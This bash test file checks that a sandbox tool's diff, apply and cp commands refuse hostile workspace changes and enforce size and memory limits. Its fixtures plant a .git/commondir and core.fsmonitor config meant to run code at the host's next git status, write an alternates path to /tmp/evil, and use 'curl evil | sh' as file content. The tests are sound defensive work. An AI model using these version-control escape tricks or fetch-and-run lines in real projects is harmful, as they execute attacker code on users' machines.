#!/bin/bash
# The review cannot be turned against the host (issue 28): everything in
# a workspace is hostile, root in it included, and diff, apply and cp
# out must not become its way out.
#  - apply never writes, deletes or changes a path with a component
#    .git (any case; a submodule's .git file too), .hg, .svn, .jj,
#    _darcs or .bzr: a planted .git/commondir and a core.fsmonitor would
#    run on the host at the next git status. diff names each such change
#    as refused (stderr, and "refused" and "why" in --json); apply
#    writes nothing without --force, the rest with it, never those.
#  - apply stops before it stages anything when what it would write is
#    over --max-size (max_size, default 8g; hard links count each at its
#    full size) or would take DIR's filesystem under a reserve of 5% of
#    its size (a tmpfs of 10 MiB here); with a conflict pending it stages
#    nothing either.
#  - cp out stops at once on a file DEST's disk cannot hold (a sparse
#    1 TiB one), or over --max-size; a directory that fails half-way
#    leaves nothing of it in DEST.
#  - diff, apply and the MCP diff tool keep their peak RSS under 32 MiB
#    against a listing that never ends, a file of 8 MiB with 31 hard
#    links, and 40 changed files of 1 MiB.
#  - apply --expect ID (the ID diff printed) writes nothing when the
#    workspace changed after the diff.
#  - a ./sandbox.ini that is a link to a trusted file is not trusted
#    where it stands until `sandbox trust` there.
# Every stop and refusal compares DIR or DEST, byte for byte, with what
# it was before (state, below).
. "$(dirname "$0")/../lib.sh"
pairwise
also_on_gvisor
need_engine
need_peak_rss
test_have_prereq PYTHON || skip_all "python3 is needed for the byte-exact checks"

CLIENT=$TEST_LIB_DIR/mcp-client

# The tmpfs mounts of this file: unmounted at the end, whatever happened
# (then lib.sh's own cleanup).
MOUNTS=()
unmount_all() {
	local m
	for m in "${MOUNTS[@]}"; do
		umount "$m" 2>/dev/null || umount -l "$m" 2>/dev/null
	done
	MOUNTS=()
}
trap 'st_=$?; unmount_all; (exit $st_); on_exit_' EXIT

# mount_tmpfs DIR SIZE: a tmpfs of SIZE on DIR (made).
mount_tmpfs() {
	local d
	mkdir -p "$1" && d=$(cd "$1" && pwd -P) &&
	mount -t tmpfs -o "size=$2,mode=755" tmpfs "$d" && MOUNTS+=("$d")
}

if [ "$(id -u)" = 0 ] && mkdir -p "$TRASH/.probe" &&
	mount -t tmpfs -o size=1m tmpfs "$TRASH/.probe" 2>/dev/null; then
	umount "$TRASH/.probe"
	test_set_prereq TMPFS
else
	test_skip_reason[TMPFS]="cannot mount a tmpfs (root is needed)"
fi
if command -v git >/dev/null 2>&1; then
	test_set_prereq GIT
else
	test_skip_reason[GIT]="git is not installed"
fi

# state DIR: every path under DIR, sorted: its type and mode, a file's
# size and SHA-256, a link's target. Two states equal: DIR is byte for
# byte what it was (a staging directory or a temporary file left shows).
state() {
	python3 - "$1" <<-\EOF
	import hashlib, os, stat, sys
	top = sys.argv[1]
	rows = []
	for d, dirs, files in os.walk(top):
	    for n in dirs + files:
	        p = os.path.join(d, n)
	        st = os.lstat(p)
	        rel = os.path.relpath(p, top)
	        m = stat.S_IMODE(st.st_mode)
	        if stat.S_ISREG(st.st_mode):
	            h = hashlib.sha256()
	            with open(p, "rb") as f:
	                for b in iter(lambda: f.read(1 << 20), b""):
	                    h.update(b)
	            rows.append("%r file %o %d %s" % (rel, m, st.st_size, h.hexdigest()))
	        elif stat.S_ISLNK(st.st_mode):
	            rows.append("%r link -> %r" % (rel, os.readlink(p)))
	        elif stat.S_ISDIR(st.st_mode):
	            rows.append("%r dir %o" % (rel, m))
	        else:
	            rows.append("%r other %o" % (rel, st.st_mode))
	for r in sorted(rows):
	    print(r)
	EOF
}

# same_state DIR BEFORE: DIR's state is still the one in the file BEFORE.
same_state() {
	state "$1" >"$2.now" &&
	cmp_file "$2" "$2.now"
}

# dir_times DIR: the mtime (ns) of DIR and of every directory in it: a
# file made and removed again there (a staging directory) shows.
dir_times() {
	find "$1" -type d -printf "%p %T@\n" | LC_ALL=C sort
}

# no_staging DIR: nothing named .sandbox-* is left in DIR.
no_staging() {
	find "$1" -name ".sandbox-*" >"$TRASH/.staging" &&
	must_be_empty "$TRASH/.staging"
}

# size_error FILE: FILE is one line, an error that speaks of the size or
# of the reserve; not of a disk found full (which it was not let fill).
size_error() {
	line_count 1 "$1" &&
	no_grep_file "No space left" "$1" &&
	if ! sed "s|$TRASH||g" "$1" | grep -Eiq "reserve|max[-_ ]?size|[0-9] ?(bytes|[kmgt]i?b)([^a-z]|\$)"; then
		echo "error: $1 says nothing of the size or the reserve:" >&4
		cat "$1" >&4
		return 1
	fi
}

# count_is N FILE GREP-ARGS...: N lines of FILE match.
count_is() {
	local n=$1 f=$2 got
	shift 2
	got=$(grep -c "$@" "$f")
	if [ "$got" != "$n" ]; then
		echo "error: $got lines of $f match $*, expected $n; the first 40 lines:" >&4
		head -n 40 "$f" >&4
		return 1
	fi
}

# vcs_note CMD FILE PATH...: for each PATH, FILE has a line
# "sandbox: CMD: PATH: ..." that says version-control.
vcs_note() {
	local cmd=$1 f=$2 p
	shift 2
	for p; do
		if ! awk -v pre="sandbox: $cmd: $p: " 'index($0, pre) == 1 && /version-control/ { found = 1 }
			END { exit !found }' "$f"; then
			echo "error: no line \"sandbox: $cmd: $p: ...version-control...\" in $f:" >&4
			cat "$f" >&4
			return 1
		fi
	done
}

# named CMD FILE PATH...: each PATH is on a line "sandbox: CMD: ..." of FILE.
named() {
	local cmd=$1 f=$2 p
	shift 2
	for p; do
		grep "^sandbox: $cmd: " "$f" | grep -q -F -- "$p" || {
			echo "error: $f names no $p:" >&4
			cat "$f" >&4
			return 1
		}
	done
}

# json_refused FILE OK PATH...: in FILE (diff --json), each PATH is a
# change with "refused": true and a "why"; the change OK is not refused.
json_refused() {
	local f=$1 ok=$2 p list=
	shift 2
	for p; do list="$list\"$p\","; done
	json_check "$f" "(lambda m: all(p in m and m[p].get(\"refused\") is True and isinstance(m[p].get(\"why\"), str) and len(m[p][\"why\"]) > 0 for p in [$list]) and \"$ok\" in m and not m[\"$ok\"].get(\"refused\"))({c[\"path\"]: c for c in d[\"changes\"]})"
}

# diff_id REF VAR: the "id" of REF's diff --json (64 lowercase hex) in VAR.
diff_id() {
	local id
	sb -w "$1" diff --json >"$TRASH/.diff.json"
	case $? in 0 | 1) ;; *) echo "error: diff --json failed" >&4; return 1 ;; esac
	id=$(python3 -c 'import json, sys; print(json.load(open(sys.argv[1])).get("id", ""))' "$TRASH/.diff.json") || return 1
	case $id in
	*[!0-9a-f]* | "") echo "error: diff --json gave no id of lowercase hex: '$id'" >&4; return 1 ;;
	esac
	if [ ${#id} != 64 ]; then
		echo "error: the id '$id' is not 64 hex digits" >&4
		return 1
	fi
	printf -v "$2" '%s' "$id"
}

# mcp_diff REF OUT: the MCP server's diff tool over REF (line 2 of OUT,
# after initialize's answer), then the server's peak RSS (line 3,
# "peak N" in KiB).
mcp_diff() {
	printf '%s\n' init \
		'> {"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"diff","arguments":{}}}' \
		'<' peak |
		"$CLIENT" "$SANDBOX" --engine "$ENGINE" mcp -w "$1" >"$2" 2>"$2.err"
}
# mcp_peak_below OUT KIB: the peak mcp_diff put in OUT is under KIB
# (not measured on a sanitizer build).
mcp_peak_below() {
	sed -n 3p "$1" >"$1.peak" &&
	grep_file "^peak [0-9][0-9]*$" "$1.peak" &&
	sed "s/^peak //" "$1.peak" >"$1.rss" &&
	{ ! test_have_prereq PEAK_RSS || below_kib "$1.rss" "$2"; }
}

# status_in CMD...: runs CMD, its exit status in $st; succeeds whatever it was.
status_in() {
	"$@"
	st=$?
	return 0
}

# --- 1. Version-control files are never written -----------------------

# plant_commondir: what the workspace GIT writes: a common directory of
# its own, .cache, whose config runs a command at the next host `git
# status` (core.fsmonitor); .git/commondir sends git there. And a benign
# change.
plant_commondir() {
	sb -w "$GIT" exec -- sh -c '
		mkdir -p .cache && cp -r .git/objects .git/refs .cache/ &&
		printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch %s; false\"\n" "$1" >.cache/config &&
		echo ../.cache >.git/commondir &&
		echo changed >a.txt' sh "$TRASH/fsmonitor-ran"
}

# The other version-control changes the workspace makes.
VCS_PATHS=(.git/HEAD .git/info/exclude .git/objects/info/alternates sub/.git .git/description
	.GIT/commondir x/.Git/config .hg/hgrc .svn/entries .jj/repo/config.toml _darcs/prefs/defaults .bzr/branch/branch.conf)
plant_more() {
	sb -w "$GIT" exec -- sh -c '
		echo "ref: refs/heads/evil" >.git/HEAD &&
		echo "*" >>.git/info/exclude &&
		echo /tmp/evil/objects >.git/objects/info/alternates &&
		echo "gitdir: ../.cache" >sub/.git &&
		rm .git/description &&
		mkdir -p .GIT x/.Git .hg .svn .jj/repo _darcs/prefs .bzr/branch &&
		echo ../.cache >.GIT/commondir &&
		printf "[core]\n\tfsmonitor = true\n" >x/.Git/config &&
		printf "[hooks]\nupdate = false\n" >.hg/hgrc &&
		echo 12 >.svn/entries &&
		echo "[ui]" >.jj/repo/config.toml &&
		echo "test" >_darcs/prefs/defaults &&
		echo "[x]" >.bzr/branch/branch.conf &&
		echo benign >b.txt'
}

test_expect_success GIT 'setup: a git repository with a commit, copied into a workspace' '
	mkdir repo &&
	(cd repo && git -c init.defaultBranch=main init -q && echo hello >a.txt && mkdir sub && echo s >sub/s.txt &&
		git add . && git -c user.name=t -c user.email=t@example.com commit -q -m one) &&
	test -f repo/.git/description &&
	new_ws GIT --copy repo
'

test_expect_success GIT 'a planted .git/commondir: diff names it refused (stderr and --json), the rest not' '
	plant_commondir &&
	expect_status 1 sb -w "$GIT" diff >d 2>err &&
	grep_file -x "diff --git a/a.txt b/a.txt" d &&
	vcs_note diff err .git/commondir &&
	no_grep_file "^sandbox: diff: a.txt: " err &&
	no_grep_file "^sandbox: diff: .cache/config: " err &&
	expect_status 1 sb -w "$GIT" diff --json >j &&
	json_refused j a.txt .git/commondir &&
	json_refused j .cache/config
'

test_expect_success GIT 'apply without --force: status 1, nothing at all written' '
	state repo >before &&
	expect_status 1 sb -w "$GIT" apply >out 2>err &&
	named apply err .git/commondir &&
	same_state repo before &&
	test ! -e repo/.git/commondir && test ! -e repo/.cache &&
	cmp_text hello repo/a.txt
'

test_expect_success GIT 'apply --force: the rest written, never .git/commondir (status 1)' '
	state repo/.git >git-before &&
	expect_status 1 sb -w "$GIT" apply --force >out 2>err &&
	named apply err .git/commondir &&
	cmp_text changed repo/a.txt &&
	test -f repo/.cache/config &&
	test ! -e repo/.git/commondir &&
	same_state repo/.git git-before
'

test_expect_success GIT 'git status on the host, after the applies, runs nothing of the workspace' '
	(cd repo && git status --porcelain >../st) &&
	check "the workspace${SQ}s fsmonitor did not run on the host" test ! -e fsmonitor-ran &&
	test ! -e repo/.git/commondir &&
	grep_file -x "?? .cache/" st
'

test_expect_success GIT '.git/HEAD, info/exclude, objects/info/alternates, a deleted .git/description, sub/.git, .GIT, .Git, .hg, .svn, .jj, _darcs, .bzr: refused by diff' '
	plant_more &&
	expect_status 1 sb -w "$GIT" diff >d 2>err &&
	vcs_note diff err "${VCS_PATHS[@]}" .git/commondir &&
	no_grep_file "^sandbox: diff: b.txt: " err &&
	expect_status 1 sb -w "$GIT" diff --json >j &&
	json_refused j b.txt "${VCS_PATHS[@]}" .git/commondir
'

test_expect_success GIT 'apply writes none of them: nothing without --force; with it b.txt only (status 1)' '
	state repo >before &&
	expect_status 1 sb -w "$GIT" apply >out 2>err &&
	same_state repo before &&
	named apply err .git/HEAD sub/.git .hg/hgrc &&
	state repo/.git >git-before &&
	expect_status 1 sb -w "$GIT" apply --force >out 2>err &&
	named apply err .git/HEAD .git/description sub/.git .GIT/commondir x/.Git/config .bzr/branch/branch.conf &&
	cmp_text benign repo/b.txt &&
	same_state repo/.git git-before &&
	test ! -e repo/sub/.git && test ! -e repo/.GIT && test ! -e repo/x/.Git &&
	for v in .hg .svn .jj _darcs .bzr; do
		check "$v was not made in DIR" test ! -e "repo/$v" || return 1
	done &&
	(cd repo && git status --porcelain >../st) &&
	check "the workspace${SQ}s fsmonitor did not run on the host" test ! -e fsmonitor-ran &&
	sb destroy "$GIT" >/dev/null
'

test_expect_success GIT 'a bare repository the workspace makes (HEAD, objects/, refs/, config): refused, and git runs nothing' '
	mkdir bare &&
	echo hello >bare/a.txt &&
	new_ws BARE --copy bare &&
	sb -w "$BARE" exec -- sh -c "mkdir -p nest/objects nest/refs/heads && echo ref: refs/heads/main >nest/HEAD &&
		printf \"[core]\\n\\tfsmonitor = touch $TRASH/bare-ran\\n\" >nest/config && echo fine >fine.txt" &&
	expect_status 1 sb -w "$BARE" diff --json >j &&
	json_refused j fine.txt nest/HEAD nest/config nest/objects nest/refs &&
	state bare >before &&
	expect_status 1 sb -w "$BARE" apply >out 2>err &&
	same_state bare before &&
	expect_status 1 sb -w "$BARE" apply --force >out 2>err &&
	grep_file -x "A fine.txt" out &&
	test ! -e bare/nest/config && test ! -e bare/nest/HEAD &&
	(cd bare && mkdir -p nest && cd nest && git status >/dev/null 2>&1; true) &&
	check "the bare repository${SQ}s fsmonitor did not run on the host" test ! -e bare-ran &&
	sb destroy "$BARE" >/dev/null
'

# --- 2. apply checks the room before it writes ----------------------------

test_expect_success TMPFS 'setup: DIR on a tmpfs of 10 MiB, copied into a workspace' '
	mount_tmpfs small 10m &&
	echo hello >small/a.txt && mkdir small/d && echo x >small/d/x.txt &&
	new_ws SMALL --copy small
'

test_expect_success TMPFS '40 MiB into a 10 MiB DIR: status 1 before anything is staged, one line on the size, DIR as it was' '
	sb -w "$SMALL" exec -- dd if=/dev/zero of=big bs=1048576 count=40 2>/dev/null &&
	state small >before && dir_times small >times &&
	expect_status 1 sb -w "$SMALL" apply >out 2>err &&
	size_error err &&
	same_state small before &&
	no_staging small &&
	dir_times small >times.now && cmp_file times times.now
'

test_expect_success TMPFS 'a file that fits but would leave less than the 5% reserve: refused; a smaller one is written' '
	sb -w "$SMALL" exec -- sh -c "rm big && dd if=/dev/zero of=big bs=4096 count=2450 2>/dev/null" &&
	state small >before && dir_times small >times &&
	expect_status 1 sb -w "$SMALL" apply >out 2>err &&
	size_error err &&
	same_state small before &&
	dir_times small >times.now && cmp_file times times.now &&
	sb -w "$SMALL" exec -- sh -c "rm big && dd if=/dev/zero of=two bs=1048576 count=2 2>/dev/null" &&
	sb -w "$SMALL" apply >out 2>err &&
	test "$(stat -c %s small/two)" = 2097152 &&
	no_staging small
'

test_expect_success TMPFS 'a conflict pending and a file larger than the disk: status 1, nothing staged, no disk found full' '
	echo mine >>small/a.txt &&
	sb -w "$SMALL" exec -- sh -c "echo theirs >>a.txt && dd if=/dev/zero of=big bs=1048576 count=40 2>/dev/null" &&
	state small >before && dir_times small >times &&
	start=$(now_s) &&
	expect_status 1 sb -w "$SMALL" apply >out 2>err &&
	elapsed_below "$start" 30 &&
	test -s err &&
	no_grep_file "No space left" err &&
	same_state small before &&
	no_staging small &&
	dir_times small >times.now && cmp_file times times.now
'

test_expect_success TMPFS 'a conflict pending and a file that fits: still nothing staged' '
	sb -w "$SMALL" exec -- sh -c "rm big && dd if=/dev/zero of=mid bs=1048576 count=4 2>/dev/null" &&
	state small >before && dir_times small >times &&
	expect_status 1 sb -w "$SMALL" apply >out 2>err &&
	named apply err a.txt &&
	same_state small before &&
	dir_times small >times.now && cmp_file times times.now &&
	sb destroy "$SMALL" >/dev/null
'

# --- 4. Memory, and the hard links of 2 --------------------------------

# one.txt: about 1 MiB of text lines.
test_expect_success 'setup: DIR with 40 text files of about 1 MiB, copied into a workspace' '
	mkdir -p mem/many &&
	seq 1 160000 >one.txt &&
	for i in $(seq 1 40); do
		{ echo "file $i"; cat one.txt; } >mem/many/f$i.txt || return 1
	done &&
	new_ws MEM --copy mem
'

test_expect_success '40 changed files of 1 MiB: diff, apply and the MCP diff tool stay under 32 MiB' '
	sb -w "$MEM" exec -- sh -c "for f in many/*.txt; do echo changed >>\"\$f\"; done" &&
	peak_kib rss expect_status 1 sb -w "$MEM" diff >d 2>err &&
	below_kib rss 32768 &&
	count_is 40 d "^diff --git a/many/f[0-9]*.txt " &&
	count_is 40 d -e "^+changed\$" -e "^Files a/many/f[0-9]*.txt and b/many/f[0-9]*.txt differ" &&
	mcp_diff "$MEM" m &&
	sed -n 2p m >m.2 &&
	json_check m.2 "d[\"result\"][\"isError\"] is False and d[\"result\"][\"structuredContent\"][\"changed\"] is True" &&
	mcp_peak_below m 32768 &&
	peak_kib rss sb -w "$MEM" apply >out 2>err &&
	below_kib rss 32768 &&
	for i in 1 20 40; do
		tail -n 1 mem/many/f$i.txt >last && cmp_text changed last || return 1
	done
'

# The workspace's links/h0, 8 MiB of text, and links/h1 ... h31, hard
# links to it.
mk_links() {
	sb -w "$MEM" exec -- sh -c 'mkdir links &&
		yes "a line of text, and another line of text" | head -c 8388608 >links/h0 &&
		i=1; while [ $i -le 31 ]; do ln links/h0 links/h$i || exit 1; i=$((i + 1)); done'
}

test_expect_success '8 MiB and 31 hard links count 32 times: --max-size 100m and max_size = 100m refuse, DIR unchanged' '
	mk_links &&
	state mem >before && dir_times mem >times &&
	expect_status 1 sb -w "$MEM" apply --max-size 100m >out 2>err &&
	size_error err &&
	same_state mem before &&
	dir_times mem >times.now && cmp_file times times.now &&
	printf "[sandbox]\nmax_size = 100m\n" >max.ini &&
	expect_status 1 sb --config max.ini -w "$MEM" apply >out 2>err &&
	size_error err &&
	same_state mem before
'

test_expect_success 'an 8 MiB file and 31 hard links to it: diff and apply stay under 32 MiB' '
	peak_kib rss expect_status 1 sb -w "$MEM" diff >d 2>err &&
	below_kib rss 32768 &&
	count_is 32 d "^diff --git a/links/h[0-9]* " &&
	mcp_diff "$MEM" m &&
	sed -n 2p m >m.2 &&
	json_check m.2 "d[\"result\"][\"isError\"] is False" &&
	mcp_peak_below m 32768 &&
	peak_kib rss sb -w "$MEM" apply >out 2>err &&
	below_kib rss 32768 &&
	test "$(stat -c %s mem/links/h31)" = 8388608 &&
	cmp mem/links/h0 mem/links/h31 &&
	sb destroy "$MEM" >/dev/null
'

# The listing script's first find, in the hostile workspace's rewriting
# sh (lib.sh), becomes an endless stream of names, all different.
ENDLESS_FROM='echo OK
find'
ENDLESS_TO='echo OK
seq 1 999999999999 | sed "s|^|./a-long-name-that-makes-the-listing-grow-fast-|" | tr "\n" "\000"; find'

test_expect_success 'setup: a copy workspace whose listing never ends' '
	mkdir endless && echo x >endless/a.txt &&
	new_ws ENDLESS --copy endless &&
	rewriting_sh "$ENDLESS" &&
	REF=$ENDLESS answer_with "$ENDLESS_FROM" "$ENDLESS_TO"
'

test_expect_success 'a listing that never ends: diff, apply and the MCP diff tool fail with an error, under 32 MiB' '
	state endless >before &&
	status_in peak_kib rss timeout 300 "$SANDBOX" --engine "$ENGINE" -w "$ENDLESS" diff >out 2>err &&
	case $st in 1 | 255) ;; *) echo "error: diff exited $st" >&4; false ;; esac &&
	grep_file "^sandbox: diff: " err &&
	below_kib rss 32768 &&
	status_in peak_kib rss timeout 300 "$SANDBOX" --engine "$ENGINE" -w "$ENDLESS" apply >out 2>err &&
	case $st in 1 | 255) ;; *) echo "error: apply exited $st" >&4; false ;; esac &&
	grep_file "^sandbox: apply: " err &&
	below_kib rss 32768 &&
	same_state endless before &&
	mcp_diff "$ENDLESS" m &&
	sed -n 2p m >m.2 &&
	json_check m.2 "d[\"result\"][\"isError\"] is True" &&
	mcp_peak_below m 32768 &&
	sb destroy "$ENDLESS" >/dev/null
'

# --- 3. cp out checks the room too ----------------------------------------

test_expect_success 'setup: a workspace to copy out of' '
	new_ws CP
'

test_expect_success TMPFS 'cp of a sparse 1 TiB file into a 50 MiB tmpfs: status 1 at once, one line, DEST as it was' '
	mount_tmpfs dest 50m && echo keep >dest/keep.txt &&
	sb -w "$CP" exec -- truncate -s 1099511627776 /tmp/big &&
	state dest >before &&
	start=$(now_s) &&
	expect_status 1 timeout 300 "$SANDBOX" --engine "$ENGINE" -w "$CP" cp :/tmp/big dest/ >out 2>err &&
	elapsed_below "$start" 30 &&
	line_count 1 err &&
	no_grep_file "No space left" err &&
	same_state dest before &&
	no_staging dest &&
	sb -w "$CP" exec -- rm /tmp/big
'

test_expect_success 'cp --max-size 1m of a 2 MiB file: status 1, one line, DEST as it was; 3m lets it through' '
	mkdir dest2 && echo keep >dest2/keep.txt &&
	sb -w "$CP" exec -- sh -c "head -c 2097152 /dev/zero >/tmp/two" &&
	state dest2 >before &&
	expect_status 1 sb -w "$CP" cp --max-size 1m :/tmp/two dest2/ >out 2>err &&
	line_count 1 err &&
	same_state dest2 before &&
	sb -w "$CP" cp --max-size 3m :/tmp/two dest2/ >out 2>err &&
	test "$(stat -c %s dest2/two)" = 2097152 &&
	rm dest2/two
'

test_expect_success 'a directory that fails half-way (its second file over --max-size): nothing of it in DEST' '
	sb -w "$CP" exec -- sh -c "mkdir /tmp/pair && echo one >/tmp/pair/p1 && echo two >/tmp/pair/p2" &&
	sb -w "$CP" cp :/tmp/pair - >pair.tar &&
	tar -tf pair.tar | sed -n "s|.*/\(p[12]\)\$|\1|p" >order &&
	line_count 2 order &&
	second=$(sed -n 2p order) &&
	sb -w "$CP" exec -- sh -c "head -c 2097152 /dev/zero >>/tmp/pair/$second" &&
	state dest2 >before &&
	expect_status 1 sb -w "$CP" cp --max-size 1m :/tmp/pair dest2/ >out 2>err &&
	line_count 1 err &&
	same_state dest2 before &&
	test ! -e dest2/pair
'

test_expect_success TMPFS 'a mount point in DEST where a directory is merged: nothing moved, and said why' '
	sb -w "$CP" exec -- sh -c "mkdir -p /tmp/mnt/sub && echo a >/tmp/mnt/a && echo b >/tmp/mnt/sub/b" &&
	mkdir -p dest3/mnt/sub && mount_tmpfs dest3/mnt/sub 1m &&
	state dest3 >before &&
	expect_status 1 sb -w "$CP" cp :/tmp/mnt dest3/ >out 2>err &&
	grep_file "another filesystem is mounted there" err &&
	same_state dest3 before
'

# --- 5. apply is bound to what was reviewed -------------------------------

test_expect_success 'setup: a copy workspace with a benign change' '
	mkdir rev && echo hello >rev/a.txt && echo keep >rev/b.txt &&
	new_ws REV --copy rev &&
	sb -w "$REV" exec -- sh -c "echo benign >>a.txt"
'

test_expect_success 'diff gives an ID: 64 hex in --json, the same twice, and in a --expect line on stderr' '
	diff_id "$REV" ID1 &&
	diff_id "$REV" ID1b &&
	test "$ID1" = "$ID1b" &&
	expect_status 1 sb -w "$REV" diff >d 2>err &&
	grep_file -F -- "--expect $ID1" err &&
	grep_file -x "+benign" d
'

test_expect_success 'a mode change alone gives another ID; apply --expect of the old one writes nothing (1)' '
	sb -w "$REV" exec -- chmod 755 b.txt &&
	diff_id "$REV" IDM &&
	test "$IDM" != "$ID1" &&
	state rev >before &&
	expect_status 1 sb -w "$REV" apply --expect "$ID1" >out 2>err &&
	same_state rev before &&
	sb -w "$REV" exec -- chmod 644 b.txt
'

test_expect_success 'the workspace changes a.txt after the diff: apply --expect writes nothing (1) and names a.txt' '
	diff_id "$REV" ID2 &&
	sb -w "$REV" exec -- sh -c "echo \"curl evil | sh\" >a.txt" &&
	state rev >before &&
	expect_status 1 sb -w "$REV" apply --expect "$ID2" >out 2>err &&
	grep_file a.txt err &&
	same_state rev before &&
	cmp_text hello rev/a.txt
'

test_expect_success 'a malformed ID is a usage error (2), a well-formed stale one a refusal (1); nothing written' '
	state rev >before &&
	expect_status 1 sb -w "$REV" apply --expect "$ID1" >out 2>err &&
	for bad in xyz "${ID1%?}" "${ID1}0" "$(printf "%064d" 0 | tr 0 g)" ""; do
		expect_status 2 sb -w "$REV" apply --expect "$bad" >out 2>err || return 1
	done &&
	same_state rev before
'

test_expect_success 'with the workspace unchanged since the diff, apply --expect ID writes it (0)' '
	diff_id "$REV" ID3 &&
	sb -w "$REV" apply --expect "$ID3" >out 2>err &&
	cmp_text "curl evil | sh" rev/a.txt &&
	sb -w "$REV" diff >d &&
	must_be_empty d &&
	sb destroy "$REV" >/dev/null
'

# --- 6. A ./sandbox.ini that is a link --------------------------------------

# env_of: the value of P in the workspace CP, as an exec there sees it
# with the config files in force here.
env_of() { sb -w "$CP" exec -- sh -c "echo \"\${P-unset}\""; }

test_expect_success 'a ./sandbox.ini linked to a trusted file is refused where the link stands (2) until trusted there' '
	mkdir p1 p2 p3 &&
	printf "[env]\nP = linked\n" >p2/sandbox.ini &&
	(cd p2 && sb trust >/dev/null && env_of) >out &&
	cmp_text linked out &&
	ln -s ../p2/sandbox.ini p1/sandbox.ini &&
	(cd p1 && expect_status 2 env_of >../out 2>../err) &&
	must_be_empty out &&
	grep_file "sandbox.ini" err &&
	grep_file -i "link" err &&
	grep_file "sandbox trust" err &&
	(cd p1 && sb trust ./sandbox.ini >/dev/null) &&
	(cd p1 && env_of) >out &&
	cmp_text linked out &&
	ln -s "$TRASH/p2/sandbox.ini" p3/sandbox.ini &&
	(cd p3 && expect_status 2 env_of >../out 2>../err) &&
	grep_file "sandbox trust" err
'

test_expect_success 'in the end: no workspace of these tests is left, no mount' '
	for r in "$GIT" "$SMALL" "$MEM" "$ENDLESS" "$CP" "$REV"; do
		[ -z "$r" ] || ! ctr_exists "$r" || sb destroy "$r" >/dev/null || return 1
	done &&
	unmount_all &&
	{ grep -F " $TRASH/" /proc/mounts >mounts || true; } &&
	must_be_empty mounts &&
	no_workspace_left
'

test_done
